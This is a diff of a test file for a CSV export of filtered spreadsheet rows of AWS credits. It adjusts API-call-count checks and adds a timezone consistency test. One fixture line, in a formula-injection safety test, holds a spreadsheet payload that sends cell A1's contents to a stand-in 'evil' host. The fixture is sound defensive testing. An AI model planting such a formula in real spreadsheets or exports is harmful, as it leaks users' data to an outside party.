@@ -115,9 +115,11 @@ describe('downloadFilteredRows', () => {
     expect(csv.match(/\r\n/g)).toHaveLength(25_001); // header + rows
     expect(csv.startsWith('\uFEFFCredit ID,')).toBe(true);
     expect(csv).not.toContain('AWSC-202610-0000-0002,');
-    // Bounded: reads that move data do not grow with rows (plan: values, display values, one Sheets request;
-    // each chunk: header and its rows).
-    expect(desk.fake.log.dataCalls()).toBe(3 + 2 * plan.chunks.length);
+    // Bounded: reads do not grow with rows (plan: one spreadsheets.get, one values.batchGet for values and one
+    // for displayed text; each chunk: ONE values.batchGet of its header and rows).
+    expect(desk.fake.log.dataCalls()).toBe(3 + plan.chunks.length);
+    // All calls: plus the active spreadsheet and its id, once for the plan.
+    expect(desk.fake.log.spreadsheetCalls()).toBe(5 + plan.chunks.length);
   });
 
   test('rows that moved between the plan and a chunk are refused, not mixed up', () => {
@@ -138,6 +140,36 @@ describe('downloadFilteredRows', () => {
     expect(desk.fake.log.count('Sheet.isRowHiddenByFilter')).toBe(0);
     expect(file.notices[0]).toMatch(/hidden by hand could not be told apart/);
   });
+
+  test.each(['Etc/UTC', 'America/Los_Angeles', 'Asia/Tokyo'])(
+    'in %s the Sheets API read gives the same file as SpreadsheetApp getValues (dates, datetimes, numbers, text)',
+    (zone) => {
+      // Last Change (datetime) and Processing Date (date) are stored as Dates; one row has a Date at local midnight.
+      desk = setUpDesk(
+        makeCredits(8, (i) =>
+          i % 2
+            ? {
+                status: 'PROCESSED',
+                allocation: 'customer 100%',
+                distributorKeeps: 0,
+                ruleId: 'default',
+                processingDate: '2026-02-03',
+              }
+            : { description: i === 2 ? '0012' : 'AWS MAP migration credit' },
+        ),
+      );
+      desk.ss._timeZone = zone;
+      desk.credits._rows[3][col('Last Change') - 1] = new Date('2026-03-01T08:00:00Z');
+      filterOn(desk, (b) => b.setHiddenValues(['100.05']), 'Amount');
+      const viaApi = downloadFilteredRows('csv');
+      desk.fake.uninstall();
+      desk.fake = installFakeAppsScript(desk.ss, { noSheetsService: true }) as typeof desk.fake;
+      const viaApp = downloadFilteredRows('csv', true);
+      expect(viaApi.content).toBe(viaApp.content);
+      expect(viaApi.rows).toBe(7);
+      expect(viaApi.content).toMatch(/2026-0[23]-0\d/);
+    },
+  );
 
   test('the CSV is formula-injection safe', () => {
     desk = setUpDesk(makeCredits(1, () => ({ description: '=HYPERLINK("http://evil/?"&A1)' })));
